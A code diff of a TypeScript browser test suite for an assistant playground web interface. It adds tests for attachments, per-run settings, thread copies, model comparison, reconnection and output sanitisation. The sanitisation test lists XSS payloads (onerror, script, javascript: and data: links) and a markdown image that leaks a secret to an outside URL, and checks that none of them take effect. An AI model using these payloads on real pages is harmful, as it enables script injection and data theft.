@@ -1,6 +1,11 @@
 import assert from 'node:assert/strict'
+import { mkdtempSync } from 'node:fs'
+import { tmpdir } from 'node:os'
+import { join } from 'node:path'
 import { after, test } from 'node:test'
 import { scripted, type Script } from '../../src/models/scripted.ts'
+import { freePort } from '../ports.ts'
+import type { TestServer } from '../server.ts'
 import { assertAccessible, closeBrowser, startTestServer, visit, withoutBrowser } from './browser.ts'
 
 after(closeBrowser)
@@ -16,9 +21,13 @@ const weather = {
 }
 
 /** A server whose model plays the script, and an assistant of it. */
-async function serve(script: Script, tools: (typeof weather)[] = []) {
+async function serve(
+  script: Script,
+  tools: (typeof weather)[] = [],
+  how: { dataDir?: string; env?: Record<string, string> } = {},
+) {
   const model = scripted(script)
-  const server = await startTestServer({ models: { scripted: model } })
+  const server = await startTestServer({ models: { scripted: model }, ...how })
   const assistant = await server.client.beta.assistants.create({ model: 'scripted', name: 'Tutor', tools })
   return { ...server, model, assistant, at: `playground?assistant=${assistant.id}` }
 }
@@ -71,22 +80,15 @@ test(
 )
 
 test('a reload in the middle of an answer goes on with it', options, async () => {
-  const { promise: more, resolve } = Promise.withResolvers<void>()
-  await using server = await serve((_, call) => ({
-    text: call === 0 ? ['The first half, '] : 'never',
-    hang: true,
-  }))
-  void more
+  await using server = await serve([{ text: ['The first half, ', 'the second.'], delayMs: 1_500 }])
   await using seen = await visit(server, { at: server.at })
   const { page } = seen
   await page.getByRole('textbox', { name: 'Message' }).fill('Tell')
   await page.keyboard.press('Enter')
   await page.getByText('The first half,').waitFor()
   await page.reload()
-  await page.getByText('The first half,').waitFor()
-  await page.getByRole('button', { name: 'Stop' }).click()
-  await page.getByRole('log').getByText('cancelled').waitFor()
-  resolve()
+  await page.getByText('The first half, the second.').waitFor()
+  assert.equal(server.model.calls.length, 1)
 })
 
 test('an example shows how it works, on the first visit', options, async () => {
@@ -100,3 +102,163 @@ test('an example shows how it works, on the first visit', options, async () => {
   await page.getByRole('link', { name: /^Source 1: house-rules\.md/ }).waitFor()
   await assertAccessible(page)
 })
+
+test('files that are attached go with the message: for a tool, and to look at', options, async () => {
+  await using server = await serve([{ text: 'Seen.' }])
+  await server.client.beta.assistants.update(server.assistant.id, { tools: [{ type: 'code_interpreter' }] })
+  await using seen = await visit(server, { at: server.at })
+  const { page } = seen
+  await page.getByRole('textbox', { name: 'Message' }).fill('Look')
+  const [chooser] = await Promise.all([
+    page.waitForEvent('filechooser'),
+    page.getByRole('button', { name: 'Attach files' }).click(),
+  ])
+  await chooser.setFiles([
+    { name: 'data.csv', mimeType: 'text/csv', buffer: Buffer.from('a,b\n1,2\n') },
+    { name: 'dot.png', mimeType: 'image/png', buffer: Buffer.from(png, 'base64') },
+  ])
+  assert.equal(await page.getByLabel('What data.csv is for').inputValue(), 'code_interpreter')
+  assert.equal(await page.getByLabel('What dot.png is for').inputValue(), 'picture')
+  // What a tooltip says belongs to no landmark.
+  await page.mouse.move(600, 200)
+  await page.getByRole('tooltip').waitFor({ state: 'hidden' })
+  await assertAccessible(page)
+  await page.getByRole('button', { name: 'Send', exact: true }).click()
+  await page.getByText('Seen.').waitFor()
+  await page.getByRole('article').getByRole('button', { name: 'data.csv' }).waitFor()
+  await page.getByRole('article').getByRole('img', { name: 'Picture' }).waitFor()
+  const [, message] = (await server.client.beta.threads.messages.list(threadIn(page.url()))).data
+  assert.deepEqual(message?.attachments?.[0]?.tools, [{ type: 'code_interpreter' }])
+  assert.deepEqual(
+    message.content.map(({ type }) => type),
+    ['text', 'image_file'],
+  )
+})
+
+test('a parameter is given for one run alone', options, async () => {
+  await using server = await serve([{ text: 'Warm.' }, { text: 'As ever.' }])
+  await using seen = await visit(server, { at: server.at })
+  const { page } = seen
+  await page.getByRole('button', { name: 'For this run' }).click()
+  await page.getByRole('dialog').getByLabel('Temperature').fill('0.5')
+  await page.getByRole('dialog').getByLabel('Added to the instructions').fill('Be brief.')
+  await assertAccessible(page)
+  await page.keyboard.press('Escape')
+  for (const [text, answer] of [
+    ['First', 'Warm.'],
+    ['Second', 'As ever.'],
+  ] as const) {
+    await page.getByRole('textbox', { name: 'Message' }).fill(text)
+    await page.keyboard.press('Enter')
+    await page.getByText(answer).waitFor()
+  }
+  const runs = (await server.client.beta.threads.runs.list(threadIn(page.url()), { order: 'asc' })).data
+  assert.deepEqual(
+    runs.map(({ temperature }) => temperature),
+    [0.5, 1],
+  )
+})
+
+test('a message is edited and run again in a copy of the thread, which itself stays', options, async () => {
+  await using server = await serve([{ text: 'Blue.' }, { text: 'Sky.' }, { text: 'Green.' }])
+  await using seen = await visit(server, { at: server.at })
+  const { page } = seen
+  for (const [text, answer] of [
+    ['Colour?', 'Blue.'],
+    ['Of what?', 'Sky.'],
+  ] as const) {
+    await page.getByRole('textbox', { name: 'Message' }).fill(text)
+    await page.keyboard.press('Enter')
+    await page.getByText(answer).waitFor()
+  }
+  const before = threadIn(page.url())
+  await page.getByRole('button', { name: 'Edit, and run again' }).last().click()
+  await page.getByRole('textbox', { name: 'Edited message' }).fill('Another?')
+  await assertAccessible(page)
+  await page.getByRole('button', { name: 'Run in a copy' }).click()
+  await page.getByText('Green.').waitFor()
+  await page.getByText('Blue.').waitFor()
+  const copy = threadIn(page.url())
+  assert.notEqual(copy, before)
+  assert.deepEqual(await said(server, copy), ['Colour?', 'Blue.', 'Another?', 'Green.'])
+  assert.deepEqual(await said(server, before), ['Colour?', 'Blue.', 'Of what?', 'Sky.'])
+})
+
+test('two models answer the same messages side by side', options, async () => {
+  const other = scripted([{ text: 'The other says one.' }, { text: 'The other says two.' }])
+  const model = scripted([{ text: 'It says one.' }, { text: 'It says two.' }])
+  await using server = await startTestServer({ models: { scripted: model, other } })
+  const assistant = await server.client.beta.assistants.create({ model: 'scripted', name: 'Tutor' })
+  await using seen = await visit(server, { at: `playground?assistant=${assistant.id}` })
+  const { page } = seen
+  await page.getByRole('button', { name: 'Compare two models' }).click()
+  await page.getByRole('combobox', { name: 'Model to compare with' }).click()
+  await page.getByRole('option', { name: /^other/ }).click()
+  for (const [text, number] of [
+    ['First', 'one'],
+    ['Second', 'two'],
+  ] as const) {
+    await page.getByRole('textbox', { name: 'Message' }).fill(text)
+    await page.keyboard.press('Enter')
+    await page.getByText(`It says ${number}.`).waitFor()
+    await page
+      .getByRole('region', { name: 'Answers of other' })
+      .getByText(`The other says ${number}.`)
+      .waitFor()
+  }
+  await assertAccessible(page)
+})
+
+test('a server that went away is told of, and its answer goes on when it is back', options, async () => {
+  const dataDir = mkdtempSync(join(tmpdir(), 'threadmill-test-'))
+  const env = { THREADMILL_PORT: String(await freePort()) }
+  const first = await serve([{ text: 'The first half, ', hang: true }], [], { dataDir, env })
+  await using seen = await visit(first, { at: first.at })
+  const { page } = seen
+  await page.getByRole('textbox', { name: 'Message' }).fill('Tell')
+  await page.keyboard.press('Enter')
+  await page.getByText('The first half,').waitFor()
+  await first.server.close()
+  await page.getByText('The stream of the answer broke off.').waitFor()
+  await using again = await startTestServer({
+    dataDir,
+    env,
+    models: { scripted: scripted([{ text: 'The whole.' }]) },
+  })
+  await page.getByText('The whole.').waitFor()
+  await page.getByText('The stream of the answer broke off.').waitFor({ state: 'hidden' })
+  assert.equal(again.url, first.url)
+})
+
+test('what strangers write does nothing', options, async () => {
+  const hostile = [
+    '<img src=x onerror="window.hit=1"><script>window.hit=1</script>',
+    '[run](javascript:window.hit=1) [data](data:text/html,<script>window.hit=1</script>)',
+    '![leak](https://example.org/leak?q=secret)',
+    '[safe](https://example.org/)',
+  ].join('\n\n')
+  await using server = await serve([{ text: hostile }])
+  await using seen = await visit(server, { at: server.at })
+  const { page } = seen
+  await page.getByRole('textbox', { name: 'Message' }).fill(hostile)
+  await page.keyboard.press('Enter')
+  const answer = page.getByRole('article', { name: 'Answer' })
+  const safe = answer.getByRole('link', { name: 'safe' })
+  await safe.waitFor()
+  assert.match((await safe.getAttribute('rel')) ?? '', /noopener/)
+  assert.equal(
+    await page.locator('a[href^="javascript"], a[href^="data"], article img, article script').count(),
+    0,
+  )
+  assert.equal(await page.evaluate(() => 'hit' in globalThis), false)
+})
+
+const said = async ({ client }: TestServer, threadId: string) =>
+  (await client.beta.threads.messages.list(threadId, { order: 'asc' })).data.map(({ content: [part] }) =>
+    part?.type === 'text' ? part.text.value : part?.type,
+  )
+
+const threadIn = (address: string) => /thread_\w+/.exec(address)?.[0] ?? ''
+
+/** One white dot. */
+const png = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mP8/x8AAwMCAO+ip1sAAAAASUVORK5CYII='
